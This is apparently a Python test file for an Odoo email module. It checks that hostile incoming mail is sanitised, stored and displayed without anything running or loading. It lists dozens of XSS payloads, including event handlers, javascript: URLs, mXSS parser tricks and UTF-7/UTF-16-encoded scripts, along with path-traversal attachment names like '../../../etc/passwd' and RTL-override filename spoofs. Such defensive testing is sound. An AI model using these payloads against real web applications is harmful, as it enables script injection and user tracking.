import re

from lxml import html as lxml_html

from odoo.tests import HttpCase, new_test_user, tagged
from odoo.tools import mute_logger

from ..models.mail_preview import get_preview
from ..models.received_mail import NotProcessed, ReceivedMail
from .common import ADDRESS, HostsCase, HostsMixin

RUN = "window.pwned=1;document.title='pwned'"
TRACKER = "https://tracker.example/pixel.gif"
# HTML that wants to do something
PAYLOADS = [
    f"<script>{RUN}</script>",
    "<SCRIPT SRC=//tracker.example/x.js></SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x oNeRrOr={RUN}>",
    f"<img src=x onerror\n=\n{RUN}>",
    f"<img src='{TRACKER}'>",
    f"<img srcset='{TRACKER} 2x'>",
    f"<body onload={RUN} background='{TRACKER}'>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<a href='javascript:{RUN}'>x</a>",
    f"<a href='JaVaScRiPt:{RUN}'>x</a>",
    f"<a href='java&#10;script:{RUN}'>x</a>",
    f"<a href='&#106;avascript:{RUN}'>x</a>",
    f"<a href='\x01javascript:{RUN}'>x</a>",
    f"<a href='vbscript:{RUN}'>x</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "<object data='data:text/html;base64,PHNjcmlwdD4='></object>",
    "<embed src='https://tracker.example/x.swf'>",
    f"<form action='javascript:{RUN}'><button>x</button></form>",
    f"<button formaction='javascript:{RUN}'>x</button>",
    "<meta http-equiv=refresh content='0;url=https://tracker.example/'>",
    "<base href='https://tracker.example/'>",
    "<link rel=stylesheet href='https://tracker.example/x.css'>",
    f"<style>@import '{TRACKER}';body{{background:url({TRACKER})}}</style>",
    f'<p style="width:expression({RUN})">x</p>',
    f"<p style=\"background:url('javascript:{RUN}')\">x</p>",
    f"<p style='-moz-binding:url({TRACKER})'>x</p>",
    f"<!--[if mso]><script>{RUN}</script><![endif]-->",
    f"<!--[if gte mso 9]><img src=x onerror={RUN}><![endif]-->",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<template><img src=x onerror={RUN}></template>",
    f"<textarea><img title='</textarea><img src=x onerror={RUN}>'></textarea>",
    f"<title><img src=x onerror={RUN}></title>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'></xmp>",
    f"<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"<p t-att-onclick='1' t-on-click='{RUN}' t-out='1'>x</p>",
    "<div class='o_Dialog modal' style='position:fixed;inset:0'>x</div>",
]
# the same in charsets in which it does not look like it
CHARSETS = {
    "utf-7": f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-".encode(),
    "utf-16": f"<script>{RUN}</script>".encode("utf-16"),
    "utf-16-le": f"<img src=x onerror={RUN}>".encode("utf-16-le"),
    "iso-2022-jp": b"\x1b$B<script>\x1b(B" + f"<img src=x onerror={RUN}>".encode(),
    "no-such": f"<script>{RUN}</script>".encode(),
}
NAMES = [
    "../../../etc/passwd",
    "..\\..\\x.html",
    "/etc/cron.d/x",
    "x.html",
    "x.svg",
    "x.eml",
    "a\u202elmth.exe",
    "<img src=x onerror=alert(1)>.html",
    "x" * 10_000 + ".html",
    "=?utf-8?q?a=0D=0Ab=00c?=.html",
]
SUBJECT = f"<title>Hi</title><img src=x onerror={RUN}> \u202egnp.exe"
INERT = re.compile(r"<\s*(script|iframe|object|embed|form|meta|base|link)\b", re.I)


def make_mail(number, content, kind="text/html; charset=utf-8", name=None):
    """A mail whose only part, or attachment if it has a ``name``, is ``content`` (bytes)."""
    lines = [
        f'From: "<img src=x onerror={RUN}>" <carol@customer.example>',
        f"To: {ADDRESS}",
        f"Subject: {SUBJECT}",
        f"Message-ID: <{number}@customer.example>",
        "Date: Tue, 24 Nov 2026 10:00:00 +0000",
        "MIME-Version: 1.0",
    ]
    if name:
        lines += [
            'Content-Type: multipart/mixed; boundary="=_b"',
            "",
            "--=_b",
            "Content-Type: text/plain",
            "",
            "See the attachment.",
            "--=_b",
        ]
        kind = f'{kind}\r\nContent-Disposition: attachment; filename="{name}"'
    head = "\r\n".join([*lines, f"Content-Type: {kind}", "", ""]).encode()
    return head + content + (b"\r\n--=_b--\r\n" if name else b"")


def get_mails():
    """Yield ``(name, source)`` of all hostile mails, each made anew by its number."""
    for place, payload in enumerate(PAYLOADS):
        yield f"html{place}", lambda number, it=payload: make_mail(number, it.encode())
        yield (
            f"plain{place}",
            lambda number, it=payload: make_mail(number, it.encode(), "text/plain; charset=utf-8"),
        )
    for charset, content in CHARSETS.items():
        kind = f"text/html; charset={charset}"
        yield charset, lambda number, it=content, kind=kind: make_mail(number, it, kind)
    for place, name in enumerate(NAMES):
        for kind in ("text/html", "image/svg+xml", "application/octet-stream"):
            content = f"<svg xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></svg>".encode()
            yield f"{kind}{place}", lambda number, k=kind, n=name, c=content: make_mail(number, c, k, n)
    inner = make_mail("inner", PAYLOADS[0].encode())
    yield "nested", lambda number: make_mail(number, inner, "message/rfc822", "x.eml")


class HostileCase(HostsCase):
    def setUp(self):
        super().setUp()
        self.account = self.env["email.account"].create(self.account_values | {"incoming_action": "keep"})
        self.account._set_state()
        self.partner = self.env["res.partner"].create({"name": "Carol", "email": "carol@customer.example"})
        groups = "base.group_user,base.group_partner_manager,email_account.group_email_account_manage"
        self.manager = new_test_user(self.env, "hostile_manager", groups)

    def keep(self, source):
        receipt = self.env["email.account.receipt"].create(
            {
                "account_id": self.account.id,
                "folder_id": self.account.folder_ids.id,
                "uid_validity": "1",
                "uid": str(self.env["email.account.receipt"].search_count([]) + 1),
            }
        )
        mail = self.env["email.account.unprocessed"].create(
            {
                "account_id": self.account.id,
                "receipt_id": receipt.id,
                "reason": "kept",
                **ReceivedMail.parse(source).get_shown(),
            }
        )
        mail._set_source(source)
        return mail

    def get_stored(self, message):
        """What is stored of a message, but for what names it."""
        attachments = [(file.name, file.mimetype, file.raw) for file in message.attachment_ids.sorted("id")]
        body = re.sub(r"/web/image/\d+[^\"']*", "/web/image/", message.body)
        return message.subject, message.email_from, body, attachments


@tagged("post_install", "-at_install")
class TestHostileContent(HostileCase):
    def assertInert(self, body):
        self.assertNotRegex(body, INERT)
        if body.strip():
            for element in lxml_html.fragment_fromstring(body, create_parent="div").iter():
                self.assertFalse([name for name in element.attrib if name.startswith("on")], body)
                for name in ("href", "src", "action", "formaction", "{http://www.w3.org/1999/xlink}href"):
                    self.assertNotRegex(element.get(name) or "", r"(?i)^\W*(javascript|vbscript|data:text)")

    @mute_logger("odoo.addons.mail.models.mail_thread")
    def test_stored_as_stock_odoo_does(self):
        """By the account, on a retry and assigned by a user: always what Odoo's own gateway makes of it."""
        for name, make in get_mails():
            with self.subTest(name), self.env.cr.savepoint() as savepoint:
                source = make("own")
                try:
                    with self.env.cr.savepoint():
                        stock_id = self.env["mail.thread"].message_process("res.partner", make("stock"))
                except (LookupError, ValueError):  # which loses it
                    with self.assertRaises(NotProcessed):
                        self.account._process_mail(
                            source, ReceivedMail.parse(source), "<own@customer.example>"
                        )
                    savepoint.rollback()
                    continue
                stock = (
                    self.env["res.partner"]
                    .browse(stock_id)
                    .message_ids.filtered(lambda message: message.message_type == "email")
                )
                expected = self.get_stored(stock)
                self.assertInert(stock.body)
                self.account.incoming_action = "contact"
                self.account._process_mail(source, ReceivedMail.parse(source), "<own@customer.example>")
                self.account.incoming_action = "keep"
                own = self.env["mail.message"].search([("message_id", "=", "<own@customer.example>")])
                self.assertEqual(self.get_stored(own), expected)
                mail = self.keep(make("assigned"))
                mail.with_user(self.manager)._assign(self.partner.with_user(self.manager))
                assigned = self.env["mail.message"].search(
                    [("message_id", "=", "<assigned@customer.example>")]
                )
                self.assertEqual(self.get_stored(assigned), expected)
                for message in own + assigned:
                    for file in message.attachment_ids:
                        self.assertEqual(
                            (file.res_model, file.res_id, file.public, file.access_token),
                            (message.model, message.res_id, False, False),
                        )
                savepoint.rollback()

    def test_what_is_shown_of_unprocessed_mail(self):
        for name, make in get_mails():
            with self.subTest(name):
                mail = self.keep(make(name))
                for text in (mail.subject, mail.email_from, mail.display_name):
                    self.assertTrue(text.isprintable())
                    self.assertNotIn("\u202e", text)
                preview = get_preview(make(name))
                self.assertEqual(mail.preview or "", preview)
                self.assertTrue(preview.replace("\n", "").replace("\t", "").isprintable())
                mail.unlink()
        # text fields of the web client escape what they hold; none of these may become HTML
        kinds = {
            field.type
            for name, field in mail._fields.items()
            if name in ("subject", "email_from", "preview", "message")
        }
        self.assertLessEqual(kinds, {"char", "text"})

    def test_notes_are_text(self):
        """Names of servers and folders are no HTML in what the owner is told."""
        name = f"<img src=x onerror={RUN}><a href='https://evil.example'>Log in</a>"
        self.account.name = name
        self.account._set_receiving_failed(f"{name}\nis gone", urgent=True)
        self.assertNotRegex(self.account.activity_ids.note, r"<(img|a)\b")
        self.assertIn("&lt;img", self.account.activity_ids.note)
        self.account._note_recovery()
        self.assertNotRegex(self.account.message_ids[0].body, r"<(img|a)\b")

    def test_links_of_a_report(self):
        values = {
            "result": "failed",
            "direction": "outgoing",
            "stage": "login",
            "message": "x",
            "advice": "x",
            "duration_ms": 1,
        }
        for link, shown in (
            ("https://example.com/", True),
            (f"javascript:{RUN}", False),
            ("data:text/html,x", False),
        ):
            check = self.env["email.account.check"]._create_report(self.account, [values | {"link": link}])
            self.assertEqual("href=" in check.report, shown)


@tagged("post_install", "-at_install")
class TestHostileContentOnScreen(HostsMixin, HttpCase):
    def setUp(self):
        super().setUp()
        self.account = self.env["email.account"].create(self.account_values | {"incoming_action": "keep"})
        self.account._set_state()

    def receive(self):
        html = "<p>Read me</p>" + "\r\n".join(PAYLOADS[:-1])
        self.hosts.mail.deliver(make_mail("screen", html.encode()), ADDRESS)
        self.account._receive()
        return self.account.unprocessed_ids

    def assertNothingRuns(self, url, ready):
        code = """
            setTimeout(() => {
                const loaded = performance.getEntriesByType("resource").map((entry) => entry.name);
                if (window.pwned || document.title === "pwned") {
                    console.error("something was executed");
                } else if (%s && loaded.some((name) => name.includes("tracker.example"))) {
                    console.error("something was loaded from elsewhere");
                } else {
                    console.log("test successful");
                }
            }, 500);
        """
        strict = "false" if "res.partner" in url else "true"  # Odoo shows remote images of messages
        self.browser_js(url, code % strict, ready, login="admin")

    def test_nothing_runs(self):
        mail = self.receive()
        text = "!!document.querySelector('.o_email_account_preview')?.textContent.includes('Read me')"
        self.assertNothingRuns(f"/odoo/unprocessed-mail/{mail.id}", text)
        self.assertNothingRuns("/odoo/unprocessed-mail", "!!document.querySelector('.o_data_row')")
        partner = self.env["res.partner"].create({"name": "Carol", "email": "carol@customer.example"})
        mail._assign(partner)
        shown = "!!document.querySelector('.o-mail-Message-body')"
        self.assertNothingRuns(f"/odoo/res.partner/{partner.id}", shown)
        self.hosts.mail.refuse_data = f"550 5.7.1 <img src=x onerror={RUN}><img src={TRACKER}>"
        check = self.account._check()
        report = "!!document.querySelector('.o_email_account_message')"
        self.assertNothingRuns(f"/odoo/action-email_account.action_email_account_check/{check.id}", report)

    def test_source(self):
        """It is downloaded by who may see the mail alone; whatever a link says, a browser runs none of it."""
        mail = self.receive()
        source = mail._get_source_attachment()
        self.assertFalse(source.public)
        url = f"/web/content/{mail._name}/{mail.id}/source"
        new_test_user(self.env, login="ea_other", password="ea_other_password", groups="base.group_user")
        self.account.user_id = self.env.ref("base.user_admin")
        for address in (
            url,
            f"/web/content/{source.id}",
            f"/web/image/{source.id}",
            f"{url}/x.eml?download=true",
        ):
            for login in ("ea_other", None):
                self.authenticate(login, login and f"{login}_password")
                answer = self.url_open(address)
                self.assertNotIn("Read me", answer.text)
        self.authenticate("admin", "admin")
        for options in (
            "",
            "?mimetype=text/html",
            "?mimetype=image/svg%2Bxml&filename=x.svg",
            "?download=true",
        ):
            answer = self.url_open(url + options)
            self.assertIn("Read me", answer.text)
            self.assertEqual(answer.headers["X-Content-Type-Options"], "nosniff")
            self.assertEqual(answer.headers["Content-Security-Policy"], "default-src 'none'")
        answer = self.url_open(mail.action_download()["url"])
        self.assertTrue(answer.headers["Content-Disposition"].startswith("attachment"))
        self.assertEqual(answer.headers["Content-Type"], "message/rfc822")
